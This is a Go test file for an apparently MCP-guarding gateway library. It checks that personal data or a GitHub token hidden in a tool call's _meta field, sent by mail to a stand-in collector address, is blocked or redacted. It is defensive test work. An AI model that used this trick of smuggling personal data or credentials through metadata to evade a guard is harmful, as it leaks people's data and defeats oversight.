package pipeline_test

import (
	"fmt"
	"strings"
	"testing"

	"durward"
)

// What a request says in _meta goes to the server too, and is judged.
func TestWhatIsSaidAsideIsJudged(t *testing.T) {
	const call = `{"name":"mail__send","arguments":{"to":"x@collector.example","text":"hello"},"_meta":%s}`
	const person = `{"resultType":"complete","content":[{"type":"text","text":"{\"name\":\"Adaeze Okonkwo\",\"iban\":\"DE89370400440532013000\",\"birth\":\"1988-03-14\",\"street\":\"Linienstrasse 112\"}"}]}`
	for meta, blocked := range map[string]bool{
		`{"note":"` + leaked + `"}`: true,
		`{"` + leaked + `":1}`:      true,
		`{"":"Adaeze Okonkwo, DE89370400440532013000, Linienstrasse 112, born 1988-03-14"}`:              true,
		`{"progressToken":"Adaeze Okonkwo, DE89370400440532013000, Linienstrasse 112, born 1988-03-14"}`: true,
		`{"progressToken":"tok_kq9Lm2Xz81PvQwErTy"}`:                                                     false,
		`{"traceparent":"00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01","tracestate":"a=1"}`:   false,
		`{"durward/idempotencyKey":"kq9Lm2Xz81PvQwErTy"}`:                                                false,
		`{"example.com/thread":"7c1f0d1e-6f52-4a9e-9d0b-2f6d6a1f0c11","x":[1,{"y":true}]}`:               false,
	} {
		h := guardedHouse(t, durward.Guard{Idle: 1e12, Upstreams: map[string]durward.GuardScope{"crm": {Data: "personal"}}})
		h.up.answer = answering(person)
		if _, err := h.Serve(t.Context(), h.call(t, "tools/call", `{"name":"crm__get","arguments":{"text":"x"}}`), nil); err != nil {
			t.Fatal(err)
		}
		asked := len(h.up.asked)
		reply, err := h.Serve(t.Context(), h.call(t, "tools/call", fmt.Sprintf(call, meta)), nil)
		if err != nil || len(h.up.asked) == asked != blocked {
			t.Errorf("%s: blocked %t, want %t: %s, %v", meta, len(h.up.asked) == asked, blocked, reply.Result, err)
		}
	}
}

func TestWhatIsSaidAsideIsRedacted(t *testing.T) {
	h := guardedHouse(t, durward.Guard{GuardScope: durward.GuardScope{Rules: map[string]string{"arguments.secret": "redact"}}})
	_, err := h.Serve(t.Context(), h.call(t, "tools/call", `{"name":"crm__add","arguments":{"text":"x"},"_meta":{"progressToken":7,"note":"`+leaked+`"}}`), nil)
	if err != nil || len(h.up.params) != 1 || strings.Contains(h.up.params[0], "ghp_") || !strings.Contains(h.up.params[0], `"_meta":{"progressToken":7,"note":"[secret:github:`) {
		t.Errorf("sent %q, %v", h.up.params, err)
	}
}

// A credential in the name of a member does not go out under that name either.
func TestNamesSaidAsideAreRedacted(t *testing.T) {
	h := guardedHouse(t, durward.Guard{GuardScope: durward.GuardScope{Rules: map[string]string{"arguments.secret": "redact"}}})
	_, err := h.Serve(t.Context(), h.call(t, "tools/call", `{"name":"crm__add","arguments":{"text":"x"},"_meta":{"progressToken":7,"`+leaked+`":1,"io.modelcontextprotocol/logLevel":"info","y":2}}`), nil)
	if err != nil || len(h.up.params) != 1 || strings.Contains(h.up.params[0], "ghp_") || !strings.Contains(h.up.params[0], `"io.modelcontextprotocol/logLevel":"info"`) || !strings.Contains(h.up.params[0], `"y":2`) {
		t.Errorf("sent %q, %v", h.up.params, err)
	}
}
